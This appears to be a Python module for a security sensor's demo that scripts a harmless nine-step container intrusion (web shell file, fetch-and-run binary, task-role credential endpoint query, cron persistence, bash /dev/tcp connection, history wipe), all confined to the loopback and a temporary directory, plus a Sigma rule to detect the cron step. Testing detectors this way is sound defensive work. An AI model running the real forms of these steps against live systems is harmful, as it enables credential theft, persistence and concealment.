"""A harmless intrusion of nine steps, as lines for the shell of a stand-in for a web server.

Everything is done on the loopback and below one temporary directory. What cannot be so is played by the nearest thing
that can, and `instead` says by what.
"""

import shlex
import shutil
import sys
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

Which = Callable[[str], str | None]

STAYS_S = 0.3
"""How long the dropped program and the outbound connection live."""

_DOWNLOAD = "import sys, urllib.request as u; open(sys.argv[2], 'wb').write(u.urlopen(sys.argv[1]).read())"
_CONNECTION = (
    "import socket, os, time; s = socket.create_connection(('127.0.0.1', {port}));"
    " os.dup2(s.fileno(), 0); time.sleep({stays})"
)

CRON_RULE = """\
title: A cron table was written below the demo's directory
id: 0f9d6c1e-5a3b-4d0e-9a52-6d0b6c7f2e11
author: fargate-sensor demo
description: The shipped rule for /etc/cron.d, for a directory in which a demo may write.
tags: [attack.persistence, attack.t1053.003]
logsource: {{product: linux, category: file_event}}
detection:
  file: {{TargetFilename|startswith: {place}}}
  condition: file
level: high
"""


class Step(NamedTuple):
    """What the intruder does, the lines that do it, and what stands in for what cannot be done here."""

    title: str
    lines: tuple[str, ...]
    instead: str | None = None


class Stage(NamedTuple):
    """Where it is played: a directory, and the loopback port of a web server that serves the folder `served` in it."""

    directory: Path
    port: int

    @property
    def watched(self) -> Path:
        """Stands for the root of a file system."""
        return self.directory / "watched"

    @property
    def served(self) -> Path:
        """What can be downloaded."""
        return self.directory / "served"

    def set_up(self) -> None:
        """Make the directories, and what will be downloaded: a copy of `sleep` under its name, as some are one program
        for all names. Raises OSError."""
        for name in ("var/www/html", "etc/cron.d", "home", "tmp/.x"):
            (self.watched / name).mkdir(parents=True)
        self.served.mkdir()
        (self.watched / "home/.bash_history").write_text("ls\n", encoding="ascii")
        shutil.copy(shutil.which("sleep") or sys.executable, self.served / "sleep")

    def rule(self) -> str:
        """A rule of the demo's own, for the step that cannot be done where the shipped rule looks."""
        return CRON_RULE.format(place=_yaml(f"{self.watched}/etc/cron.d/"))


def steps(stage: Stage, which: Which = shutil.which) -> tuple[Step, ...]:
    """The nine, in their order."""
    root = stage.watched
    shell_file, history, cron = (
        shlex.quote(str(root / name)) for name in ("var/www/html/shell.php", "home/.bash_history", "etc/cron.d/update")
    )
    part, dropped = (shlex.quote(str(root / f"tmp/.x/{name}")) for name in ("part", "sleep"))
    fetch, instead = _fetcher(which)
    far = f"http://127.0.0.1:{stage.port}"
    connect, how = _connection(stage.port, which)
    return (
        Step("a web shell is put among the pages", (f"echo '<?php /* harmless */' >{shell_file}",), "an empty page"),
        Step("the web server starts a shell", ("sh", "id; uname -a")),
        Step("curl fetches a program", (fetch(f"{far}/sleep", part),), instead),
        Step("the program is dropped", (f"chmod +x {part}; mv {part} {dropped}",), "a copy of sleep"),
        Step("it runs out of a hidden directory", (f"{dropped} {STAYS_S}",)),
        Step(
            "the task role's credentials are asked for",
            (f"http_proxy={far} {fetch('http://169.254.170.2/v2/credentials/demo', '/dev/null')}",),
            "the endpoint is named, a web server on the loopback is asked",
        ),
        Step("a cron table is written", (f"echo '* * * * * root true' >{cron}",), "below the demo's directory"),
        Step("a connection leaves", (connect,), how),
        Step("the history is wiped", (f"rm -f {history}",), "not yours"),
    )


def _fetcher(which: Which) -> tuple[Callable[[str, str], str], str | None]:
    """How to fetch a URL to a file with what this machine has; all of them honour http_proxy."""
    if which("curl"):
        return lambda url, path: f"curl -s -m 5 -o {path} {url}", None
    if which("wget"):
        return lambda url, path: f"wget -q -T 5 -O {path} {url}", "wget, there is no curl here"
    python = shlex.quote(sys.executable)
    return lambda url, path: f'{python} -c "{_DOWNLOAD}" {url} {path}', "Python, there is no curl here"


def _connection(port: int, which: Which) -> tuple[str, str]:
    if which("bash"):
        # A rule leaves out what names the loopback in such a path, as health checks do: $0 is what stands at the end.
        return f"bash -c 'exec 3<>/dev/tcp/$0/{port}; sleep {STAYS_S}; true' 127.0.0.1", "to the loopback"
    python = shlex.quote(sys.executable)
    code = _CONNECTION.format(port=port, stays=STAYS_S)
    return f'{python} -c "{code}"', "to the loopback, by Python: there is no bash here"


def _yaml(text: str) -> str:
    """A YAML scalar in single quotes, with Sigma's own signs taken as they are."""
    escaped = "".join("\\" + sign if sign in "\\*?" else sign for sign in text)
    return "'" + escaped.replace("'", "''") + "'"
